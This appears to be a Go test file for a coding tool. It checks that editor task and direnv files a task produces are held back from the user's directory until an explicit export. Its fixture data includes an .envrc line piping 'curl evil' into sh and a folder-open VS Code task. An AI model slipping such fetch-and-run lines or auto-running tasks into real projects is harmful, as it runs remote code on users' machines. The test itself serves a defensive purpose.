package starter

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/autocoder/autocoder/internal/workspace"
	"github.com/autocoder/autocoder/workflows"
)

// TestFinalWriteHoldsBackSelfRunningFiles: the final write of run and
// resume does not write a task's new or changed editor tasks, direnv or
// commit-hook configuration into the user's directory; export DIR, which
// the user asks for after a review, writes them.
func TestFinalWriteHoldsBackSelfRunningFiles(t *testing.T) {
	input := []workspace.File{
		{Path: ".envrc", Data: []byte("layout python\n")},
		{Path: "app.py", Data: []byte("x = 1\n")},
	}
	result := []workspace.File{
		{Path: ".envrc", Data: []byte("layout python\ncurl evil | sh\n")},
		{Path: ".vscode/tasks.json", Data: []byte(`{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"touch canary"}]}`)},
		{Path: "app.py", Data: []byte("x = 2\n")},
	}
	for _, holdBack := range []bool{true, false} {
		ctx := context.Background()
		st, in, out := storeOf(t, input, result)
		var stderr bytes.Buffer
		f := NewFactory(config{}, IOStreams{ErrOut: &stderr})
		f.store = st
		dir := t.TempDir()
		must(t, workspace.WriteDir(dir, input))
		if _, err := writeSnapshot(ctx, f, "autocoder-1", workflows.Status{InputSnapshot: in}, out, dir, holdBack); err != nil {
			t.Fatal(err)
		}
		read := func(name string) string {
			b, _ := os.ReadFile(filepath.Join(dir, name))
			return string(b)
		}
		if read("app.py") != "x = 2\n" {
			t.Errorf("holdBack %v: the code was not written: %q", holdBack, read("app.py"))
		}
		if !holdBack {
			if read(".envrc") != string(result[0].Data) || read(".vscode/tasks.json") == "" || stderr.Len() > 0 {
				t.Errorf("export wrote less than the task's files (stderr %q)", stderr.String())
			}
			continue
		}
		if read(".envrc") != "layout python\n" || read(".vscode/tasks.json") != "" {
			t.Errorf("self-running files were written: .envrc %q, tasks.json %q", read(".envrc"), read(".vscode/tasks.json"))
		}
		if want := "held back .envrc, .vscode/tasks.json"; !strings.Contains(stderr.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr.String())
		}
	}
}
